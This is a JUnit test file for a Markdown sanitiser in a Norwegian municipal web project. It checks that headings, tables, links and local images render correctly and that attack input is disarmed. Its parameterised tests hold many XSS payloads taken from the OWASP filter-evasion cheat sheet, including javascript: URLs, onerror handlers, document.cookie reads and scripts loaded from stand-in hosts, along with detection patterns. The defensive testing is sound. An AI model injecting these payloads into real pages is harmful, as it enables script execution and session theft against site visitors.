package no.tavla.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeMarkdownTest {

    @Test
    void headingsStepDownFromThePagesTitleOneLevelAtATime() {
        assertThat(SafeMarkdown.toHtml("## Hva er nytt\n\ntekst\n\n#### Detalj\n\n# Stor\n\n### Under"))
                .contains("<h2>Hva er nytt</h2>", "<h3>Detalj</h3>", "<h2>Stor</h2>", "<h3>Under</h3>")
                .doesNotContain("<h4>", "<h1>");
        assertThat(SafeMarkdown.toHtml("# A\n\n## B\n\n### C")).contains("<h2>A</h2>", "<h3>B</h3>", "<h4>C</h4>");
    }

    @Test
    void rendersTheToolbarsMarkup() {
        String html = SafeMarkdown.toHtml("""
                # Vaktliste

                **Viktig** og *kursiv*, [les mer](https://kommune.no/vakt) eller https://kommune.no/x

                - en
                - to

                1. første

                > sitat
                """);
        assertThat(html).contains("<h2>Vaktliste</h2>", "<strong>Viktig</strong>", "<em>kursiv</em>",
                "<ul>", "<li>en</li>", "<ol>", "<blockquote>");
        assertThat(html).contains("href=\"https://kommune.no/vakt\"").contains("href=\"https://kommune.no/x\"");
        assertThat(html).contains("rel=\"noopener noreferrer\"");
    }

    @Test
    void aTableKeepsItsHeaderRowAsHeaderCellsAndOnlyItsAlignment() {
        String html = SafeMarkdown.toHtml("""
                | Dag | Vakt |
                |:---|---:|
                | Mandag | Kari <script>x</script> |
                """);
        assertThat(html).contains("<table>", "<thead>", "<th align=\"left\" scope=\"col\">Dag</th>", "<tbody>",
                "<td align=\"right\">Kari &lt;script&gt;x&lt;/script&gt;</td>").doesNotContain("<script>");
        assertThat(SafeMarkdown.toHtml("<table onclick=\"x()\"><tr><td>a</td></tr></table>"))
                .as("raw HTML is text").doesNotContain("<table", "<td");
    }

    @Test
    void keepsNorwegianLettersAndEscapesRawHtmlAsText() {
        String html = SafeMarkdown.toHtml("Blåbær & <b>fet</b>");
        assertThat(html).contains("Blåbær").contains("&amp;").doesNotContain("<b>");
    }

    @Test
    void allowsOnlyLocalImages() {
        assertThat(SafeMarkdown.toHtml("![Kart](/media/42)")).contains("<img src=\"/media/42\" alt=\"Kart\"");
        assertThat(SafeMarkdown.toHtml("![Sporing](https://tracker.example/p.gif)")).doesNotContain("tracker.example");
        assertThat(SafeMarkdown.toHtml("![x](//evil.example/p.gif)")).doesNotContain("evil.example");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[Les mer](javascript:alert(1))", "[Les mer](JavaScript:alert(1))",
        "[Les mer](<java\tscript:alert(1)>)", "[Les mer](javascript&#58;alert(1))", "[Les mer](data:text/html,x)",
        "[Les mer](vbscript:msgbox)"})
    void aDisarmedLinkLeavesItsTextAndNoEmptyAnchor(String markdown) {
        String html = SafeMarkdown.toHtml(markdown);
        assertThat(html).isEqualTo("<p>Les mer</p>\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"![Kart over brannveien](javascript:alert(1))",
        "![Kart over brannveien](https://tracker.example/p.gif)", "![Kart over brannveien](//evil.example/p.gif)",
        "![Kart over brannveien](data:image/png;base64,AAAA)"})
    void aRefusedImageLeavesItsDescriptionAsText(String markdown) {
        String html = SafeMarkdown.toHtml(markdown);
        assertThat(html).isEqualTo("<p>Kart over brannveien</p>\n");
    }

    @Test
    void allowedLinksStayLinks() {
        assertThat(SafeMarkdown.toHtml("[Ring](tel:+4712345678) [Skriv](mailto:post@kommune.no) [Side](/units/x)"))
                .contains("href=\"tel:&#43;4712345678\"", "href=\"mailto:post&#64;kommune.no\"", "href=\"/units/x\"");
    }

    @Test
    void plainTextGetsItsLinksAndNothingElse() {
        String html = SafeMarkdown.plainTextWithLinks("Se https://kommune.no/vakt?uke=3.\n<b>Takk</b> & hilsen");
        assertThat(html).contains("<a href=\"https://kommune.no/vakt?uke&#61;3\" rel=\"noopener noreferrer\">")
                .contains("<br />").contains("&lt;b&gt;Takk&lt;/b&gt; &amp; hilsen").doesNotContain("<b>");
        assertThat(SafeMarkdown.plainTextWithLinks("javascript:alert(1) <script>x</script>"))
                .doesNotContain("<script", "href");
        assertThat(SafeMarkdown.plainTextWithLinks("https://x.example/\"onmouseover=\"alert(1)"))
                .doesNotContainPattern("\\son[a-z]+=");
    }

    @Test
    void blankIsEmpty() {
        assertThat(SafeMarkdown.toHtml(null)).isEmpty();
        assertThat(SafeMarkdown.toHtml("  \n")).isEmpty();
    }

    /** A selection of the OWASP XSS filter-evasion cheat sheet, as Markdown and as raw HTML. */
    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<iframe src=http://xss.example/scriptlet.html <",
            "<svg/onload=alert('XSS')>",
            "<BGSOUND SRC=\"javascript:alert('XSS');\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "[klikk](javascript:alert(1))",
            "[klikk](JAVASCRIPT:alert(1))",
            "[klikk](  javascript:alert(1))",
            "[klikk](java&#x09;script:alert(1))",
            "[klikk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[klikk](vbscript:msgbox(1))",
            "![bilde](javascript:alert(1))",
            "![bilde\" onerror=\"alert(1)](/media/1)",
            "[x](https://ok.example \"title\\\" onmouseover=alert(1)\")",
            "<https://ok.example/\"onmouseover=\"alert(1)>",
            "javascript:alert(1)",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
    })
    void neverEmitsScriptHandlersJavascriptUrlsOrFrames(String attack) {
        for (String input : new String[] {attack, "Tekst før\n\n" + attack + "\n\netter", "> " + attack,
                "- " + attack}) {
            String html = SafeMarkdown.toHtml(input).toLowerCase(Locale.ROOT);
            assertThat(html).as(input)
                    .doesNotContain("<script", "<iframe", "<frame", "<object", "<embed", "<svg", "<style", "<link",
                            "<meta", "<form", "<base", "<math")
                    .doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=")
                    .doesNotContainPattern("(href|src)\\s*=\\s*\"?\\s*(javascript|vbscript|data):")
                    .doesNotContain("style=");
        }
    }
}
